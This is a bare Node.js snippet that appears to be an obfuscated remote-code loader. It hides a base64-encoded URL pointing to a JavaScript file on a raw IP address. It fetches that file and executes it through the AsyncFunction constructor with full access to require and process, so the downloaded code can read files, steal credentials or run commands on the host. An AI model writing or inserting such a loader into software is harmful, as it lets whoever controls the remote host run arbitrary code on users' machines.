(async () => {
  const _0x4f = ["aHR0cDovLzIwMy4wLjExMy4xMTIvai5qcw==", "from", "base64", "constructor"];
  const u = Buffer[_0x4f[1]](_0x4f[0], _0x4f[2]).toString();
  const t = await (await fetch(u)).text();
  const F = (async () => {})[_0x4f[3]];
  await new F("require", "process", t)(require, process);
})();
